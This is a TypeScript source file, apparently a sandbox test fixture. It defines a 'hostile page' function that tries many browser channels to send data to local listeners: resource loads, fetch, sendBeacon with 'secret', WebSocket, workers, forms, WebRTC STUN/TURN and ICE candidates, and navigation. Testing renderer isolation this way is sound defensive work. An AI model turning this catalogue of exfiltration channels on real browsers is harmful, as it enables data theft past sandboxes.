/**
 * The hostile page, as a function that runs inside of a renderer: every way out that an element, a script or a frame knows.
 * Elements are made through the DOM, since text does not become HTML there. Each way is tried whatever became of the others.
 */

/** Where the page would like to get. */
export interface LeakTarget {
  readonly httpPort: number;
  readonly udpPort: number;
}

/** Runs in the page, so it may use nothing from outside of itself. Returns how many ways were tried. */
export async function tryToLeak({ httpPort, udpPort }: LeakTarget): Promise<number> {
  const http = `http://127.0.0.1:${httpPort}`;
  let tried = 0;
  const attempt = async (way: () => unknown): Promise<void> => {
    tried += 1;
    try {
      await way();
    } catch {
      // Refused: what matters is what the listeners heard.
    }
  };
  const add = (tag: string, attributes: Readonly<Record<string, string>>, parent: Element = document.body) =>
    attempt(() => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      parent.append(element);
    });

  await add('img', { src: `${http}/img` });
  await add('img', { srcset: `${http}/srcset 1x` });
  await add('video', { src: `${http}/video`, poster: `${http}/poster`, autoplay: '' });
  await add('audio', { src: `${http}/audio`, autoplay: '' });
  await add('iframe', { src: `${http}/iframe` });
  await add('iframe', { src: `data:text/html,<img src="${http}/data-frame">` });
  await add('iframe', {
    srcdoc: `<img src="${http}/srcdoc"><script>fetch("${http}/srcdoc-script")</script>`,
  });
  await add('object', { data: `${http}/object` });
  await add('embed', { src: `${http}/embed` });
  await add('input', { type: 'image', src: `${http}/input` });
  await add('div', { style: `background-image: url(${http}/style)` });
  await add('script', { src: `${http}/script` });
  await add('base', { href: `${http}/base/` }, document.head);
  for (const rel of [
    'stylesheet',
    'icon',
    'prefetch',
    'preload',
    'modulepreload',
    'preconnect',
    'dns-prefetch',
    'manifest',
  ]) {
    await add('link', { rel, href: `${http}/link-${rel}`, as: 'image' }, document.head);
  }
  await add('meta', { 'http-equiv': 'refresh', content: `0;url=${http}/refresh` }, document.head);
  await attempt(() => {
    const style = document.createElement('style');
    style.append(`@import url(${http}/import); body { background: url(${http}/sheet) }`);
    document.head.append(style);
  });
  await attempt(() => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    for (const tag of ['image', 'use', 'feImage']) {
      const child = document.createElementNS('http://www.w3.org/2000/svg', tag);
      child.setAttribute('href', `${http}/svg-${tag}`);
      svg.append(child);
    }
    document.body.append(svg);
  });
  await attempt(() => {
    document.body.style.backgroundImage = `url(${http}/cssom)`;
  });
  await attempt(() => {
    document.body.innerHTML += `<img src="${http}/html">`;
  });
  await attempt(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inside = frame.contentDocument;
    const image = inside?.createElement('img');
    image?.setAttribute('src', `${http}/blank-frame`);
    if (image) inside?.body.append(image);
  });
  await attempt(() => {
    const page = URL.createObjectURL(new Blob([`<img src="${http}/blob">`], { type: 'text/html' }));
    return add('iframe', { src: page });
  });
  await attempt(() => fetch(`${http}/fetch`, { mode: 'no-cors' }));
  await attempt(() => fetch(`${http}/keepalive`, { mode: 'no-cors', keepalive: true }));
  await attempt(() => navigator.sendBeacon(`${http}/beacon`, 'secret'));
  await attempt(() => {
    const request = new XMLHttpRequest();
    request.open('GET', `${http}/xhr`);
    request.send();
  });
  await attempt(() => new WebSocket(`ws://127.0.0.1:${httpPort}/socket`));
  await attempt(() => new EventSource(`${http}/events`));
  await attempt(() => new WebTransport(`https://127.0.0.1:${httpPort}/transport`));
  await attempt(() => new Worker(`${http}/worker`));
  await attempt(() => {
    const code = `fetch("${http}/blob-worker"); new WebSocket("ws://127.0.0.1:${httpPort}/blob-worker")`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  });
  await attempt(() => navigator.serviceWorker.register(`${http}/service-worker`));
  await attempt(() => import(`${http}/module`));
  await attempt(() => new FontFace('x', `url(${http}/font)`).load());
  await attempt(() => window.open(`${http}/open`));
  await attempt(() => {
    const link = document.createElement('a');
    link.href = `${http}/click`;
    link.ping = `${http}/ping`;
    link.download = 'file';
    document.body.append(link);
    link.click();
  });
  await attempt(() => {
    const form = document.createElement('form');
    form.action = `${http}/form`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  });
  await attempt(async () => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:127.0.0.1:${udpPort}` },
        { urls: `turn:127.0.0.1:${udpPort}`, username: 'x', credential: 'x' },
        { urls: `turn:127.0.0.1:${httpPort}?transport=tcp`, username: 'x', credential: 'x' },
      ],
    });
    peer.createDataChannel('x');
    const gathered = new Promise((resolve) => {
      peer.addEventListener('icegatheringstatechange', () => {
        if (peer.iceGatheringState === 'complete') resolve(null);
      });
    });
    await peer.setLocalDescription(await peer.createOffer());
    // What has not been gathered by then would have been sent at once: gathering begins with the packets.
    await Promise.race([gathered, new Promise((resolve) => setTimeout(resolve, 3000))]);
  });
  await attempt(async () => {
    // A candidate of the other side's choice: an address to connect to, and words to send there.
    const peer = new RTCPeerConnection();
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    const sdp = peer.localDescription?.sdp.replaceAll('a=setup:actpass', 'a=setup:active') ?? '';
    await peer.setRemoteDescription({ type: 'answer', sdp });
    for (const target of [
      `tcp 1 127.0.0.1 ${httpPort} typ host tcptype passive`,
      `udp 1 127.0.0.1 ${udpPort} typ host`,
    ]) {
      await peer.addIceCandidate({ candidate: `candidate:1 1 ${target}`, sdpMid: '0' });
    }
    await new Promise((resolve) => setTimeout(resolve, 1000));
  });
  await attempt(() => {
    location.href = `${http}/location?d=secret`;
  });
  return tried;
}
